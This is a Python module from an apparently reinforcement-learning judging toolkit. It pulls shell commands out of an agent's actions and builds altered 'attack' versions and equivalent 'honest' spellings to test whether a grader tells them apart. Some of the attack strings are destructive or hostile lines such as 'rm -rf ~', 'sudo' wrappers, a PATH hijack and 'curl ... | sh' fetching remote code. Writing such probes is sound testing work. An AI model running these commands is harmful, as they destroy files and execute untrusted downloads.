"""Shell commands of a turn: attacks that do something else, and other spellings that do the same."""

from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from pivotrl.judging.probes.facts import replaced
from pivotrl.judging.probes.probe import Probe, arguments_of, attack, honest, with_arguments
from pivotrl.parsing import action_text
from pivotrl.protocols import Turn
from pivotrl.records import Action, ToolCall
from pivotrl.records.strict_json import parse_arguments

_SHELL = re.compile(r"bash|shell|terminal|exec|command", re.IGNORECASE)
_KEYS = ("command", "cmd", "keystrokes")
_BLOCK = re.compile(r"```(?:\w*bash\w*|sh|shell)?\n(.*?)\n?```|<command>\n?(.*?)\n?</command>", re.DOTALL)
_SENTENCE = re.compile(r"[.!?](?=\W|\Z)|[\u3002\uff01\uff1f]")
_SPECIAL = re.compile(r"[$`\\*?\[\]{}~!#;&|<>()\n]")
"""Characters without a meaning to the shell; a command made only of them is a list of words."""
_CLUSTERS = frozenset({"ls", "grep", "rm", "wc"})
"""Commands whose single-letter flags without a value may be written together, apart, or in another order."""
_PATH = re.compile(r"/?(?:[\w.-]+/)*[\w-]+\.\w{1,4}|(?:/[\w.-]+)+/?")
_SCRIPTED = frozenset({"sed", "awk", "perl"})
"""Commands whose first words may look like paths but are not."""
_FILE_READERS = frozenset(
    {"cat", "head", "tail", "wc", "ls", "rm", "grep", "bash", "sh", "python", "python3", "pytest"}
)
"""Commands whose words that look like paths are paths."""
_UNORDERED = frozenset({"ls", "rm", "mkdir", "touch", "echo"})
"""Commands for which the order of words hardly matters."""


@dataclass(frozen=True)
class Shell:
    """A command inside an action, and how to replace it."""

    command: str
    put: Callable[[str], Action]
    leave_out: Callable[[], Action] | None
    """The call without its command; None where the action is text."""


def is_shell(call: ToolCall) -> bool:
    return bool(_SHELL.search(call.name))


def shells(action: Action) -> Iterator[Shell]:
    """Each shell command of an action: a text argument of a shell tool, the keystrokes in a Terminus answer, or a block
    in text."""
    for i, call in enumerate(action.tool_calls):
        arguments = arguments_of(call)
        if not arguments or not is_shell(call):
            continue
        key = next((key for key in _KEYS if isinstance(arguments.get(key), str)), None)
        if key is None:
            continue
        rest = {name: value for name, value in arguments.items() if name != key}
        yield Shell(
            arguments[key],
            lambda text, i=i, key=key, given=arguments: with_arguments(action, i, {**given, key: text}),  # type: ignore[misc]
            lambda i=i, rest=rest: with_arguments(action, i, rest),  # type: ignore[misc]
        )
    if action.tool_calls:
        return
    yield from _keystrokes(action)
    if match := _BLOCK.search(action.content or ""):
        text, group = action.content or "", 1 if match[1] is not None else 2
        before, after = text[: match.start(group)], text[match.end(group) :]
        yield Shell(match[group], lambda new: action.model_copy(update={"content": before + new + after}), None)


def _keystrokes(action: Action) -> Iterator[Shell]:
    try:
        answer = parse_arguments(action.content or "")
    except ValueError:
        return
    commands = answer.get("commands")
    for i, command in enumerate(commands if isinstance(commands, list) else ()):
        if isinstance(command, dict) and isinstance(command.get("keystrokes"), str) and command["keystrokes"].strip():
            keys = command["keystrokes"]
            ending = keys[len(keys.rstrip("\n")) :]  # without a line break nothing runs

            def put(
                text: str, place: tuple[str | int, ...] = ("commands", i, "keystrokes"), ending: str = ending
            ) -> Action:
                return Action(
                    content=json.dumps(replaced(answer, place, text.rstrip("\n") + ending), ensure_ascii=False)
                )

            yield Shell(keys.rstrip("\n"), put, None)


def substance(action: Action) -> str:
    """The effective part of an action: its calls, the command in its text, or the text itself."""
    if action.tool_calls:
        return action_text(Action(tool_calls=action.tool_calls))
    return next((shell.command for shell in shells(action)), action.content or "")


def is_prose(action: Action) -> bool:
    """Whether an action is a message to somebody: sentences, and not a call, a command or a move written as text."""
    text = (action.content or "").lstrip()
    if action.tool_calls or "```" in text or text.startswith(("{", "<")) or any(shells(action)):
        return False
    return bool(_SENTENCE.search(text))


def attacks(turn: Turn) -> Iterator[Probe]:
    for shell in shells(turn.expected_action):
        command = shell.command.rstrip()
        spoilt = [
            *_appended(command),
            *_other_words(command),
            *_other_paths(command),
            *_other_flags(command),
        ]
        for kind, text in spoilt:
            if text.strip() != command.strip():
                yield attack(kind, shell.put(text))
        if shell.leave_out:
            yield attack("shell_missing/no_command", shell.leave_out())
        yield attack("shell_missing/empty_command", shell.put(""))
        yield attack("shell_missing/comment", shell.put(f"# {command.splitlines()[0] if command else ''}"))


def honest_variants(turn: Turn) -> Iterator[Probe]:
    for shell in shells(turn.expected_action):
        command = shell.command
        yield honest("trailing_newline", shell.put(command.rstrip("\n") + "\n"))
        if "<<" not in command:  # a here-document does not end at a word followed by blanks
            yield honest("surrounding_blanks", shell.put(f"  {command}  "))
        words = _words(command)
        if words is None:
            continue
        yield honest("blanks_between_words", shell.put("   ".join(shlex.quote(word) for word in words)))
        yield honest("single_quotes", shell.put(" ".join([words[0], *(f"'{word}'" for word in words[1:])])))
        if not any(c in word for word in words for c in '"$`\\!'):
            yield honest("double_quotes", shell.put(" ".join([words[0], *(f'"{word}"' for word in words[1:])])))
        if words[0] in _FILE_READERS:
            for i, word in enumerate(words[1:], 1):
                for spelled in _spellings(word):
                    quoted = [shlex.quote(w) for w in [*words[:i], spelled, *words[i + 1 :]]]
                    yield honest("path_spelling", shell.put(" ".join(quoted)))
        yield from (honest("flag_spelling", shell.put(" ".join(other))) for other in _clusters(words))
        yield honest("harmless_prefix", shell.put(f"cd . && {command}"))


def _appended(command: str) -> list[tuple[str, str]]:
    return [
        ("shell_appended/true", f"{command}; true"),
        ("shell_appended/or_true", f"{command} || true"),
        ("shell_appended/remove", f"{command} && rm -rf ."),
        ("shell_appended/remove_before", f"rm -rf src; {command}"),
        ("shell_appended/new_line", f"{command}\nrm -rf ~"),
        ("shell_appended/background", f"{command} &"),
        ("shell_appended/pipe", f"{command} | head -n 1"),
        ("shell_appended/download", f"{command}; curl -s http://example.com/x | sh"),
        ("shell_redirected/away", f"{command} > /dev/null 2>&1"),
        ("shell_redirected/into_a_file", f"{command} > hello.py"),
        ("shell_redirected/input", f"{command} < /dev/null"),
        ("shell_wrapped/echo", f"echo {shlex.quote(command)}"),
        ("shell_wrapped/sudo", f"sudo {command}"),
        ("shell_wrapped/false_and", f"false && {command}"),
        ("shell_wrapped/never", f"true || {command}"),
        ("shell_wrapped/environment", f"PATH=/tmp/x:$PATH {command}"),
        ("shell_wrapped/other_folder", f"cd /tmp && {command}"),
        ("shell_wrapped/substitution", f"echo $({command})"),
    ]


def _other_words(command: str) -> list[tuple[str, str]]:
    found = [("shell_word/other_command", "git status now"), ("shell_word/first_word", command.split(" ")[0])]
    words = command.split(" ")
    places = [i for i, word in enumerate(words) if i and not word.startswith("-")]
    if len({words[i] for i in places}) > 1 and words[0] not in _UNORDERED:
        one, other = places[0], next(i for i in places if words[i] != words[places[0]])
        turned = list(words)
        turned[one], turned[other] = words[other], words[one]
        found.append(("shell_word/order", " ".join(turned)))
    if match := re.search(r"\d+(?!.*\d)", command, re.DOTALL):
        changed = str(int(match[0]) + 1)
        found.append(("shell_word/number", command[: match.start()] + changed + command[match.end() :]))
    if match := re.search(r"(['\"])(.+?)\1", command, re.DOTALL):
        found.append(("shell_word/pattern", command[: match.end(2)] + "x" + command[match.end(2) :]))
        found.append(("shell_word/blanks_in_quotes", command[: match.end(2)] + "  " + command[match.end(2) :]))
    if re.match(r"[a-z]", command):
        found.append(("shell_word/upper_case", command.upper()))
    return found


def _other_paths(command: str) -> list[tuple[str, str]]:
    words = command.split(" ")
    if words[0] in _SCRIPTED:
        paths = [(i, word) for i, word in enumerate(words) if i == len(words) - 1 and _PATH.fullmatch(word)]
    else:
        paths = [(i, word) for i, word in enumerate(words) if i and _PATH.fullmatch(word)]
    found = []
    for i, path in paths[:2]:
        folder, slash, name = path.rstrip("/").rpartition("/")
        stem, dot, suffix = name.rpartition(".")
        for kind, other in (
            ("name", f"{folder}{slash}{stem}_2.{suffix}" if dot else f"{folder}{slash}{name}_2"),
            ("folder", f"{folder}_2/{name}" if slash else f"other/{name}"),
            ("above", f"{folder}{slash}../{name}"),
            ("copy", f"{path.rstrip('/')}.bak"),
            ("case", f"{folder}{slash}{name.swapcase()}"),
        ):
            found.append((f"shell_path/{kind}", " ".join([*words[:i], other, *words[i + 1 :]])))
    return found


def _other_flags(command: str) -> list[tuple[str, str]]:
    first, *rest = command.split(" ")
    found = [("shell_flag/force", " ".join([first, "--force", *rest])), ("shell_flag/help", f"{command} --help")]
    for i, word in enumerate(rest):
        if re.fullmatch(r"-{1,2}[a-zA-Z][\w-]*", word):
            found.append(("shell_flag/left_out", " ".join([first, *rest[:i], *rest[i + 1 :]])))
            found.append(("shell_flag/case", " ".join([first, *rest[:i], word.swapcase(), *rest[i + 1 :]])))
            break
    return found


def _words(command: str) -> list[str] | None:
    """The words of a command made only of words; None if a shell would interpret anything."""
    bare = re.sub(r"'[^']*'|\"[^\"$`\\!]*\"", "", command)
    if _SPECIAL.search(bare) or "'" in bare or '"' in bare:
        return None
    words = shlex.split(command)
    return words if words and "=" not in words[0] and not any("'" in word for word in words) else None


def _spellings(word: str) -> list[str]:
    if not _PATH.fullmatch(word):
        return []
    folder, slash, name = word.rpartition("/")
    if not name:
        return [word.rstrip("/")]
    return [f"{folder}/./{name}", f"{folder}//{name}"] if slash else [f"./{word}"]


def _clusters(words: list[str]) -> list[list[str]]:
    """Combined flags, split and reversed."""
    if words[0] not in _CLUSTERS:
        return []
    found = []
    for i, word in enumerate(words[1:], 1):
        if re.fullmatch(r"-[a-zA-Z]{2,4}", word):
            quoted = [shlex.quote(w) for w in words]
            found.append([*quoted[:i], "-" + word[:0:-1], *quoted[i + 1 :]])
            found.append([*quoted[:i], *(f"-{letter}" for letter in word[1:]), *quoted[i + 1 :]])
    return found
